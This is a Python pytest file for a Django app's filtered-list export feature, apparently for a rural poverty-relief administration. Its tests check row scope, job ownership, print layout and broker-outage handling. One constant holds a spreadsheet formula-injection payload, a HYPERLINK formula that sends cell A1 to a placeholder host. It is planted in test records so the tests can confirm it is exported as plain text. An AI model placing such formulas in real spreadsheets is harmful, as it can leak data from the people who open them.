"""The list export kit (``organisation.exports``): for every registered kind, the export a town's user asks for on a
filtered list holds exactly the rows the list page shows that user for that filter; the job is its owner's alone;
text is never a formula; the sheet is laid out for printing; a broker that is down leaves the job waiting."""

import datetime as dt
import io
import time
from dataclasses import dataclass
from decimal import Decimal
from urllib.parse import urlencode

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from organisation.export_services import export_job_run
from organisation.exports import HEADER_ROW, MONEY_FORMAT, registered, shown_width
from organisation.models import District, ExportJob, ExportStatus
from organisation.roles import Role
from tests.factories.audits import item_raised
from tests.factories.household_records import cadre_helping, cadre_made, quality_problem
from tests.factories.households import HouseholdFactory, MemberFactory
from tests.reporting.test_report_jobs import celery_app_broker_down  # noqa: F401  (a fixture)

FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'


@dataclass
class Case:
    """What a kind's list shows a user (a town's, unless the list is the district's) for a filter: the list's URL
    name and query, the sheet's key column and how to read the same key from a row of the list page."""

    list_url: str
    params: dict
    key_column: int  # the position of the key in the kind's columns
    key: object  # row of the page -> the key the sheet shows
    user: object = None
    formula_column: int | None = 0  # the position of a column holding the formula-like text the case wrote
    district: bool = False  # the list is the district's (a district post's export): the unit is the district


def _households(make_user, town, village, other_village):
    from households.importing.columns import COLUMNS

    kept = [MemberFactory(household__village=village, name=name).household for name in ("李四", FORMULA)]
    MemberFactory(household__village=village_of(town))  # same town, another village: filtered out
    MemberFactory(household__village=other_village)  # another town: out of reach
    keys = [column.key for column in COLUMNS]
    assert kept
    return Case(
        "households:household_list",
        {"village": village.pk},
        keys.index("file_number"),
        lambda household: household.file_number,
        make_user(Role.TOWN_STAFF, town=town),
        keys.index("name"),
    )


def village_of(town):
    from tests.factories.organisation import VillageFactory

    return VillageFactory(town=town)


def _problems(make_user, town, village, other_village):
    found = timezone.now() - dt.timedelta(days=3)
    for household in (HouseholdFactory(village=village), HouseholdFactory(village=village)):
        quality_problem(household, "identification", found_at=found)
    quality_problem(HouseholdFactory(village=village), "exit", found_at=found)  # another class: filtered out
    quality_problem(HouseholdFactory(village=other_village), "identification", found_at=found)  # out of reach
    problem = quality_problem(HouseholdFactory(village=village), "identification", found_at=found)
    problem.detail = FORMULA
    problem.save()
    return Case(
        "households:quality_problems",
        {"problem_class": "identification"},
        2,
        lambda problem: problem.household.file_number,
        make_user(Role.TOWN_STAFF, town=town),
        6,
    )


def _cadres(make_user, town, village, other_village):
    today = timezone.localdate()
    for name in ("张干部", "张科长", FORMULA):
        cadre = cadre_made()
        cadre.name = name if name != FORMULA else "张" + FORMULA
        cadre.work_unit = FORMULA if name == FORMULA else cadre.work_unit
        cadre.save()
        cadre_helping(cadre, HouseholdFactory(village=village), today)
    cadre_helping(cadre_made(), HouseholdFactory(village=other_village), today)  # helps only elsewhere
    elsewhere = cadre_made()
    elsewhere.name = "张外镇"
    elsewhere.save()
    cadre_helping(elsewhere, HouseholdFactory(village=other_village), today)
    return Case(
        "households:cadre_list",
        {"q": "张"},
        0,
        lambda cadre: cadre.name,
        make_user(Role.TOWN_STAFF, town=town),
        1,
    )


def _ledger(make_user, town, village, other_village):
    staff = make_user(Role.TOWN_STAFF, town=town)
    item_raised(staff, town, source="self_check")
    item_raised(staff, town, source="self_check", description=FORMULA)
    item_raised(make_user(Role.DISTRICT_OFFICE), town, source="district_assessment")  # another source: filtered out
    item_raised(make_user(Role.TOWN_STAFF, town=other_village.town), other_village.town, source="self_check")
    return Case(
        "audits:item_list",
        {"source": "self_check"},
        1,
        lambda item: item.number,
        staff,
        7,
    )


def _transfers(make_user, town, village, other_village):
    from funds.models import Allocation
    from tests.factories.funds import ChainPeople, allocation_for, to_station

    people = ChainPeople.for_town(town, village)
    first = allocation_for(people.district_finance, [(town, Decimal("1000.00")), (other_village.town, Decimal("5"))])
    allocation_for(people.district_finance, [(town, Decimal("2345678.90"))])
    to_station(people, first, town)  # a transfer of another hop: filtered out
    Allocation.objects.filter(pk=first.pk).update(document_number=FORMULA)
    return Case(
        "funds:transfer_list",
        {"hop": "to_town"},
        0,
        lambda transfer: transfer.allocation.document_number,
        people.town_staff,
        0,
    )


def _loans(make_user, town, village, other_village):
    from funds.services.loans import loan_apply
    from tests.factories.households import member_born

    staff = make_user(Role.TOWN_STAFF, town=town)
    today = timezone.localdate()

    def applied(user, village, name, amount):
        household = HouseholdFactory(village=village)
        borrower = member_born(household, name=name)
        return loan_apply(
            user=user, household=household, borrower=borrower, amount=Decimal(amount), term_months=12,
            repayment_interval="monthly", purpose="养殖", received_on=today,
        )  # fmt: skip

    applied(staff, village, "李贷一", "50000.00")
    applied(staff, village, FORMULA, "30000.00")
    applied(staff, village_of(town), "李贷三", "20000.00")  # another village: filtered out
    applied(make_user(Role.TOWN_STAFF, town=other_village.town), other_village, "李贷四", "10000.00")
    return Case("funds:loan_list", {"village": village.pk}, 1, lambda loan: loan.borrower.name, staff, 1)


def _reports(make_user, town, village, other_village):
    from funds.services.reports import monthly_report_open
    from organisation.periods import month_start, previous_month

    staff = make_user(Role.TOWN_STAFF, town=town)
    month = previous_month(month_start(timezone.localdate()))
    for _back in range(3):
        monthly_report_open(user=staff, town=town, month=month)
        month = previous_month(month)
    other = make_user(Role.TOWN_STAFF, town=other_village.town)
    monthly_report_open(user=other, town=other_village.town, month=previous_month(timezone.localdate()))
    since = previous_month(previous_month(month_start(timezone.localdate())))
    return Case(
        "funds:report_list",
        {"month_from": f"{since:%Y-%m}"},
        1,
        lambda report: report.month,
        staff,
        None,
    )


def _projects(make_user, town, village, other_village):
    from projects.models.project import ProjectStatus
    from tests.factories.projects import ProjectFactory, operating_project

    operating_project(town=town, villages=[village], name="光伏电站")
    operating_project(town=town, villages=[village], name=FORMULA, investment=Decimal("2345678.90"))
    ProjectFactory(town=town, status=ProjectStatus.PROPOSAL)  # another status: filtered out
    operating_project(town=other_village.town, villages=[other_village])  # out of reach
    return Case(
        "projects:project_list",
        {"status": "operating"},
        0,
        lambda project: project.code,
        make_user(Role.TOWN_STAFF, town=town),
        1,
    )


def _assessed(project, classification, rate):
    from projects.models.income import YieldAssessment

    period_end = dt.date(timezone.localdate().year - 1, 12, 31)
    return YieldAssessment.objects.create(
        project=project, period_end=period_end, income=Decimal("30000.00"), investment=Decimal("1000000.00"),
        yield_rate=Decimal(rate), classification=classification,
    )  # fmt: skip


def _yields(make_user, town, village, other_village):
    from tests.factories.projects import operating_project

    for name, classification, rate in (("一", "weak", "0.03"), (FORMULA, "weak", "0.02"), ("三", "meeting", "0.08")):
        _assessed(operating_project(town=town, villages=[village], name=name), classification, rate)
    _assessed(operating_project(town=other_village.town, villages=[other_village]), "weak", "0.01")
    return Case(
        "projects:yield_overview",
        {"classification": "weak"},
        2,
        lambda assessment: assessment.project.code,
        make_user(Role.TOWN_STAFF, town=town),
        3,
    )


def _plans(make_user, town, village, other_village):
    from projects.models.income import RectificationPlan
    from tests.factories.projects import operating_project

    for name, remedy in (("一", "pair"), (FORMULA, "pair"), ("三", "other")):
        project = operating_project(town=town, villages=[village], name=name)
        RectificationPlan.objects.create(project=project, assessment=_assessed(project, "weak", "0.02"), remedy=remedy)
    RectificationPlan.objects.create(project=operating_project(town=other_village.town), remedy="pair")
    return Case(
        "projects:plan_list",
        {"remedy": "pair"},
        0,
        lambda plan: plan.project.code,
        make_user(Role.TOWN_STAFF, town=town),
        1,
    )


def _overdue(make_user, town, village, other_village):
    from funds.models import Allocation
    from tests.factories.funds import ChainPeople, allocation_for

    people = ChainPeople.for_town(town, village)
    for number in (FORMULA, "鲁财-HYPERLINK-1", "鲁财-2"):  # the last one is filtered out by the search
        allocation = allocation_for(people.district_finance, [(town, Decimal("1000.00"))])
        Allocation.objects.filter(pk=allocation.pk).update(document_number=number)
    allocation_for(people.district_finance, [(other_village.town, Decimal("7"))])  # out of reach
    return Case(
        "funds:overdue_list",
        {"q": "HYPERLINK"},
        1,
        lambda transfer: transfer.allocation.document_number,
        people.town_staff,
        1,
    )


def _supervision_plans(make_user, town, village, other_village):
    from audits.choices import SubjectKind, SupervisionBody
    from audits.services.plans import planned_inspection_add

    office = make_user(Role.DISTRICT_OFFICE)
    year = timezone.localdate().year - 1

    def planned(title, town, year):
        return planned_inspection_add(
            user=office, year=year, quarter=2, title=title, body=SupervisionBody.DISTRICT_OFFICE,
            subject_kind=SubjectKind.TOWN, town=town,
        )  # fmt: skip

    planned("汪沟镇专项督查", town, year)
    planned(FORMULA, town, year)
    planned("外镇督查", other_village.town, year)
    planned("今年的督查", town, year + 1)  # another year: filtered out
    # The plan is the district's: its readers (the audit post here) see every town's.
    return Case(
        "audits:plan_list", {"year": year}, 1, lambda plan: plan.title, make_user(Role.AUDIT), 1, district=True
    )


def _orders(make_user, town, village, other_village):
    from audits.services.supervision import order_issue

    office = make_user(Role.DISTRICT_OFFICE)
    for addressee, to in (
        ("镇党委HYPERLINK", town),
        (FORMULA, town),
        ("镇党委乙", town),
        ("外镇HYPERLINK", other_village.town),
    ):
        order_issue(user=office, town=to, addressee=addressee, requirement="限期整改", items=[item_raised(office, to)])
    return Case(
        "audits:order_list",
        {"q": "HYPERLINK"},
        2,
        lambda order: order.addressee,
        make_user(Role.TOWN_STAFF, town=town),
        2,
    )


CASES = {
    "households.roster": _households,
    "households.problems": _problems,
    "households.cadres": _cadres,
    "audits.ledger": _ledger,
    "audits.plans": _supervision_plans,
    "audits.orders": _orders,
    "funds.transfers": _transfers,
    "funds.loans": _loans,
    "funds.reports": _reports,
    "funds.overdue": _overdue,
    "projects.projects": _projects,
    "projects.yields": _yields,
    "projects.plans": _plans,
}


def sheet_of(job):
    job.refresh_from_db()
    assert job.status == ExportStatus.DONE, job.failure
    with job.file.open("rb") as stream:
        return load_workbook(io.BytesIO(stream.read())).active


def ask(client, kind, params, **data):
    url = reverse("organisation:export_ask", args=[kind]) + ("?" + urlencode(params) if params else "")
    return client.post(url, data)


def column(sheet, index):
    return [row[index] for row in sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True)]


def test_every_registered_kind_has_its_case():
    # given the kinds the apps registered, then each is checked below (a new kind without a case fails here)
    assert sorted(registered()) == sorted(CASES)


@pytest.mark.django_db
@pytest.mark.parametrize("kind", sorted(CASES))
def test_a_filtered_export_holds_exactly_the_rows_the_list_shows(
    kind, client, make_user, town, village, other_village
):
    # given records in the user's town (some filtered out) and in another town
    case = CASES[kind](make_user, town, village, other_village)
    client.force_login(case.user)
    # when the user opens the filtered list, and asks for its export with the list's query string
    page = client.get(reverse(case.list_url), case.params)
    assert page.status_code == 200
    paginator = page.context["paginator"]  # every row the filter matches, not only the first page's
    rows = paginator.object_list if paginator is not None else page.context["object_list"]
    listed = sorted(str(case.key(row)) for row in rows)
    response = ask(client, kind, {**case.params, "page": "1"})
    # then the job's page is the user's, and the sheet holds the same rows, no more, no fewer
    job = ExportJob.objects.get(owner=case.user, kind=kind)
    assert response.status_code == 302 and response.url == reverse("organisation:export_job", args=[job.pk])
    assert job.filters == {key: str(value) for key, value in case.params.items()}
    job = export_job_run(job_id=job.pk)
    sheet = sheet_of(job)
    assert len(listed) >= 2
    assert (
        sorted(
            str(value.date() if isinstance(value, dt.datetime) else value) for value in column(sheet, case.key_column)
        )
        == listed
    )
    assert job.rows_done == len(listed)
    # and the formula-like text is there as text, and no cell anywhere is a formula
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    if case.formula_column is not None:
        written = [cell for cell in cells if isinstance(cell.value, str) and cell.value.endswith(FORMULA)]
        assert written and all(cell.data_type == "s" for cell in written)
        assert any(value and str(value).endswith(FORMULA) for value in column(sheet, case.formula_column))


@pytest.mark.django_db
@pytest.mark.parametrize("kind", sorted(CASES))
def test_the_sheet_is_laid_out_for_printing(kind, client, make_user, town, village, other_village):
    # given a filtered list's export
    case = CASES[kind](make_user, town, village, other_village)
    client.force_login(case.user)
    ask(client, kind, case.params)
    sheet = sheet_of(export_job_run(job_id=ExportJob.objects.get().pk))
    # then a title, the unit (the user's town) and date, a bold frozen header repeated on each page, A4 landscape
    unit = District.objects.get().name if case.district else town.name
    assert sheet["A1"].value and unit in sheet["A2"].value
    assert all(cell.font.b for cell in sheet[HEADER_ROW])
    assert sheet.freeze_panes == f"A{HEADER_ROW + 1}"
    assert sheet.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    # and each column is wide enough for its header, and for its dates and amounts (never ###)
    for index, header in enumerate(sheet[HEADER_ROW], 1):
        width = sheet.column_dimensions[get_column_letter(index)].width
        assert width >= min(40, shown_width(header.value)), header.value
        for (cell,) in sheet.iter_rows(min_row=HEADER_ROW + 1, min_col=index, max_col=index):
            if isinstance(cell.value, dt.date):
                assert width >= 12 and cell.is_date, header.value
            if isinstance(cell.value, int | float | Decimal) and cell.number_format == MONEY_FORMAT:
                assert width >= len(f"{cell.value:,.2f}") + 2, header.value


@pytest.mark.django_db
@pytest.mark.parametrize("kind", sorted(CASES))
def test_another_user_gets_a_404_on_the_job_its_progress_and_its_file(
    kind, client, make_user, town, village, other_village
):
    # given a finished export of a town's user
    case = CASES[kind](make_user, town, village, other_village)
    client.force_login(case.user)
    ask(client, kind, case.params)
    job = export_job_run(job_id=ExportJob.objects.get().pk)
    names = ("organisation:export_job", "organisation:export_job_progress", "organisation:export_job_download")
    urls = [reverse(name, args=[job.pk]) for name in names]
    # when another town's user, and a user of the same town, open its page, its progress and its file: 404
    for other in (make_user(Role.TOWN_STAFF, town=other_village.town), make_user(Role.TOWN_STAFF, town=town)):
        client.force_login(other)
        assert [client.get(url).status_code for url in urls] == [404, 404, 404]
    # when its owner does: the page offers the file, which is never cached
    client.force_login(case.user)
    assert 'data-testid="export-download"' in client.get(urls[0]).content.decode()
    response = client.get(urls[2])
    assert response.status_code == 200 and "no-store" in response["Cache-Control"]
    assert b"".join(response.streaming_content)[:2] == b"PK"


@pytest.mark.django_db
@pytest.mark.parametrize("kind", sorted(CASES))
def test_the_list_page_has_the_export_button_with_its_query_string(
    kind, client, make_user, town, village, other_village
):
    # given a filtered list
    case = CASES[kind](make_user, town, village, other_village)
    client.force_login(case.user)
    # when its page is opened, then its button posts the list's query string to the kind's export
    page = client.get(reverse(case.list_url), case.params).content.decode()
    action = reverse("organisation:export_ask", args=[kind]) + "?" + urlencode(case.params)
    assert f'action="{action.replace("&", "&amp;")}"' in page


@pytest.mark.django_db
def test_a_role_that_may_not_export_a_list_gets_no_button_and_a_403(client, make_user, village):
    # given a village clerk, who may not open the cadre list
    clerk = make_user(Role.VILLAGE_CLERK, village=village)
    client.force_login(clerk)
    # when it asks for the cadre export: refused, no job
    assert ask(client, "households.cadres", {}).status_code == 403
    assert not ExportJob.objects.exists()


@pytest.mark.django_db
def test_an_unknown_kind_or_a_town_out_of_reach_is_a_404(client, make_user, town, other_town):
    client.force_login(make_user(Role.TOWN_STAFF, town=town))
    assert ask(client, "nothing.here", {}).status_code == 404
    assert ask(client, "households.problems", {"town": other_town.pk}).status_code == 404
    assert not ExportJob.objects.exists()


@pytest.mark.django_db
def test_with_the_broker_down_the_export_waits_and_the_page_says_so_in_chinese(
    client,
    make_user,
    town,
    celery_app_broker_down,  # noqa: F811
    django_capture_on_commit_callbacks,
):
    # given a town's staff, and a broker nothing listens on
    client.force_login(make_user(Role.TOWN_STAFF, town=town))
    # when it asks for the ledger's export
    with django_capture_on_commit_callbacks(execute=True):
        response = ask(client, "audits.ledger", {})
    # then it lands on the job's page, which says in Chinese that the export waits for the job service
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response.url == reverse("organisation:export_job", args=[job.pk])
    assert job.status == ExportStatus.WAITING and "任务服务" in job.failure
    page = client.get(response.url)
    assert page.status_code == 200 and job.failure in page.content.decode()


@pytest.mark.celery_worker
@pytest.mark.django_db(transaction=True)
def test_a_worker_writes_an_export_asked_for_in_the_browser(
    client, make_user, town, village, other_village, private_queue, worker, settings
):
    # given the problem list of a town's staff, and exports sent to this test's queue
    settings.EXPORT_QUEUE = private_queue
    case = _problems(make_user, town, village, other_village)
    client.force_login(case.user)
    with worker():
        # when it asks for the export
        response = ask(client, "households.problems", case.params)
        job = ExportJob.objects.get()
        deadline = time.monotonic() + 60
        while job.status != ExportStatus.DONE:
            assert time.monotonic() < deadline, f"the worker did not write the export within a minute: {job.status}"
            time.sleep(0.2)
            job.refresh_from_db()
    # then the job is done with its rows counted, the bar reloads the page, and the file is there
    assert response.status_code == 302
    assert (job.rows_total, job.rows_done, job.progress, len(job.sha256)) == (3, 3, 100, 64)
    assert client.get(reverse("organisation:export_job_progress", args=[job.pk]))["HX-Refresh"] == "true"
    assert client.get(reverse("organisation:export_job_download", args=[job.pk])).status_code == 200
